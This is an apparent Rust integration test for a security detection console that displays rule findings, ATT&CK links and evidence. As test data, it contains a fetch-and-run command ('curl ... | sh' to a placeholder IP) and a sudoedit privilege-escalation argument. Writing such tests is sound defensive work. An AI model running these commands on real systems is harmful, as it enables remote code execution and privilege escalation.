//! The console shows rule findings (detection rules as data, `ward-rules`): category, rule
//! id, severity, ATT&CK, next steps and the typed evidence, in headless chromium against a
//! real server on 127.0.0.1 and real SQLite. The findings come from the example trace
//! `testdata/traces/rules.jsonl` run through the engine with the shipped rules; one more is a
//! finding of a rule that is no longer loaded (its category is in no table).

#[path = "common/browser.rs"]
mod browser;
mod common;

use browser::{browser_available, Browser};
use common::*;
use serde_json::json;
use std::sync::Arc;
use ward_api::ApiConfig;
use ward_detect::{DetectorsConfig, Engine, EngineConfig};
use ward_event::{Finding, TraceReader};
use ward_intel::IntelSet;
use ward_store::{FindingStore, SqliteStore};

fn rule_findings() -> Vec<Finding> {
    let mut engine = Engine::new(
        &EngineConfig::default(),
        &DetectorsConfig::default(),
        Arc::new(IntelSet::new()),
        None,
    );
    let rules = ward_rules::RuleSet::shipped_and(&[]).expect("shipped rules load");
    engine.set_rules(Arc::new(rules)).unwrap();
    let path = repo_root().join("testdata/traces/rules.jsonl");
    let reader =
        TraceReader::new(std::io::BufReader::new(std::fs::File::open(path).unwrap())).unwrap();
    let mut updates = Vec::new();
    for ev in reader.flatten() {
        engine.process(ev, &mut updates);
    }
    let mut all = std::collections::BTreeMap::new();
    for u in updates {
        all.insert(u.finding.name.clone(), u.finding);
    }
    all.into_values().collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rule_findings_show_their_rule_and_evidence() {
    if !browser_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(SqliteStore::open(dir.path().join("ward.db")).unwrap());
    let findings = rule_findings();
    assert!(findings.len() >= 8, "{}", findings.len());
    store.upsert_many(&findings).unwrap();
    // A finding of a rule since removed: its category text is in no table.
    let ucs = findings
        .iter()
        .find(|f| f.source_str("Rule_Id") == Some("UNEXPECTED_CHILD_SHELL"))
        .unwrap()
        .clone();
    let mut retired = ucs.clone();
    retired.name = ucs
        .name
        .replace(ucs.id(), "0123456789abcdef0123456789abcdef");
    retired.canonical_name = retired.name.clone();
    retired.category = "Retired: A Rule No Longer Loaded".into();
    retired
        .source_properties
        .insert("Rule_Id".into(), json!("RETIRED_RULE"));
    store.upsert(&retired).unwrap();

    let srv = TestServer::start(ApiConfig::default(), store.clone()).await;
    let b = Browser::start().await;

    b.goto(&srv.console_url).await;
    b.wait_ready("list").await;
    b.reset_ready().await;
    // The category menu lists the rule categories by their API names; the filter works.
    b.goto(&format!("{}/#/?category=UNEXPECTED_CHILD_SHELL", srv.base))
        .await;
    b.wait_ready("list").await;
    let options = b
        .js("return Array.from(document.querySelectorAll('#category-select option')).map(o => [o.value, o.textContent])")
        .await;
    assert!(
        options
            .as_array()
            .unwrap()
            .contains(&json!(["UNEXPECTED_CHILD_SHELL", "Unexpected Child Shell"])),
        "{options}"
    );
    assert_eq!(b.count("#findings-table tbody tr").await, 1);
    b.reset_ready().await;
    b.click("#findings-table tbody tr .cat-link").await;
    b.wait_ready("finding-summary").await;

    assert_eq!(b.text("#finding-title").await, "Unexpected Child Shell");
    assert!(b.text(".fhead-badges").await.contains("CRITICAL"));
    let why = b.text("#card-why").await;
    assert!(why.contains("UNEXPECTED_CHILD_SHELL"), "{why}");
    let evidence = b
        .js("return Array.from(document.querySelectorAll('#evidence li')).map(li => [li.querySelector('.ev-field').textContent, li.querySelector('.ev-value').textContent])")
        .await;
    assert_eq!(
        evidence,
        json!([["basename", "sh"], ["parent.basename", "nginx"]]),
        "{why}"
    );
    let mitre = b
        .js("return Array.from(document.querySelectorAll('#mitre-links a')).map(a => a.href)")
        .await;
    for t in [
        "https://attack.mitre.org/techniques/T1059/004/",
        "https://attack.mitre.org/techniques/T1190/",
    ] {
        assert!(mitre.as_array().unwrap().contains(&json!(t)), "{mitre}");
    }
    assert!(b.text("#card-links").await.contains("EXECUTION"));
    assert!(b.text("#next-steps").await.contains("web shell"));
    b.screenshot("rules-01-unexpected-child-shell").await;

    // Another rule's evidence: the decoded base64 content.
    let b64 = findings
        .iter()
        .find(|f| f.source_str("Rule_Id") == Some("BASE64_ENCODED_SHELL_SCRIPT_EXECUTED"))
        .unwrap();
    b.reset_ready().await;
    b.goto(&format!("{}/#/findings/{}", srv.base, b64.id()))
        .await;
    b.wait_ready("finding-summary").await;
    assert_eq!(
        b.text("#evidence .ev-value").await,
        "curl -s http://198.51.100.66/x | sh"
    );

    // The retired rule's finding still lists and shows, by its stored text.
    b.reset_ready().await;
    b.goto(&format!("{}/#/?q=category%3Aretired", srv.base))
        .await;
    b.wait_ready("list").await;
    assert_eq!(b.count("#findings-table tbody tr").await, 1);
    b.reset_ready().await;
    b.click("#findings-table tbody tr .cat-link").await;
    b.wait_ready("finding-summary").await;
    assert_eq!(
        b.text("#finding-title").await,
        "Retired: A Rule No Longer Loaded"
    );
    assert!(b.text("#card-why").await.contains("RETIRED_RULE"));
    assert_eq!(b.count("#evidence li").await, 2);
    b.screenshot("rules-02-retired-rule").await;

    b.close().await;
    srv.stop().await;
}

/// `/v1/categories` lists the loaded rules' categories beside the built-in ones, with their
/// severity and ATT&CK ids; `category=RULE_ID` filters the list API.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_api_lists_and_filters_rule_categories() {
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(SqliteStore::open(dir.path().join("ward.db")).unwrap());
    store.upsert_many(&rule_findings()).unwrap();
    let srv = TestServer::start(ApiConfig::default(), store.clone()).await;
    let c = reqwest::Client::new();
    let cats: serde_json::Value = c
        .get(format!("{}/v1/categories", srv.base))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let list = cats["categories"].as_array().unwrap();
    let ucs = list
        .iter()
        .find(|c| c["apiName"] == "UNEXPECTED_CHILD_SHELL")
        .unwrap_or_else(|| panic!("{cats:#}"));
    assert_eq!(ucs["category"], "Unexpected Child Shell");
    assert_eq!(ucs["severity"], "CRITICAL");
    assert_eq!(
        ucs["techniques"],
        json!([{"id": "T1059.004", "name": "UNIX_SHELL"}, {"id": "T1190", "name": "EXPLOIT_PUBLIC_FACING_APPLICATION"}])
    );
    assert!(list.iter().any(|c| c["apiName"] == "REVERSE_SHELL"));
    let page: serde_json::Value = c
        .get(format!("{}/v1/findings", srv.base))
        .query(&[("filter", "category=SUDO_POTENTIAL_PRIVILEGE_ESCALATION")])
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let found = page["listFindingsResults"].as_array().unwrap();
    assert_eq!(found.len(), 1, "{page:#}");
    assert_eq!(
        found[0]["finding"]["sourceProperties"]["Evidence"],
        json!([{"field": "basename", "value": "sudoedit"}, {"field": "argv", "value": "AAAAAAAA\\"}])
    );
    srv.stop().await;
}
